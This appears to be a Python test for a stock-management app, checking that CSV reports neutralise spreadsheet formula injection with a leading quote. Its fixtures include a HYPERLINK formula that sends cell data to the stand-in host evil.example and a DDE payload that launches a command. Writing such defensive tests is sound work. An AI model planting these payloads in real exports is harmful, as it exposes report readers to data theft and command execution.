"""A reference a receive-only user types reaches every CSV report: it must not
run as a formula in the spreadsheet of whoever opens the report."""

from __future__ import annotations

import csv
import io
from typing import Any

from .helpers import move, stocked

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"invoice")'


def test_text_a_clerk_stores_is_neutralised_in_csv(boss: Any, as_principal: Any) -> None:
    stocked(boss, "A-1", "WH1", 10)
    boss.put_json(
        "/locations/WH1/@@acl",
        {
            "entries": [
                {"action": "Allow", "principal": "group:receivers", "permission": "stock.receive"}
            ]
        },
    )
    clerk = as_principal("user:rita", "group:receivers")
    move(clerk, "WH1", "A-1", "receipt", 5, reference=HYPERLINK)
    move(boss, "WH1", "A-1", "adjustment", -5, reason="@damaged", reference="+44 1234")
    boss.put_json("/stock/A-1", {"name": "-cmd|' /C calc'!A0", "unit_cost": "1.5"})

    text = boss.get("/reports/movements?format=csv").body.decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    receipt, adjustment = rows[1], rows[2]
    assert receipt["reference"] == "'" + HYPERLINK
    assert (adjustment["reference"], adjustment["reason"]) == ("'+44 1234", "'@damaged")
    # a negative quantity is a number, and stays one
    assert (adjustment["quantity"], adjustment["balance"]) == ("-5", "10")
    assert receipt["name"] == "'-cmd|' /C calc'!A0"
    on_hand = list(
        csv.DictReader(
            io.StringIO(
                boss.get("/reports/stock-on-hand?format=csv").body.decode("utf-8"), newline=""
            )
        )
    )
    assert on_hand[0]["name"] == "'-cmd|' /C calc'!A0" and on_hand[0]["on_hand"] == "10"
    # JSON carries the data as it is
    json_rows = boss.get("/reports/movements").json["rows"]
    assert json_rows[1]["reference"] == HYPERLINK and json_rows[2]["quantity"] == -5
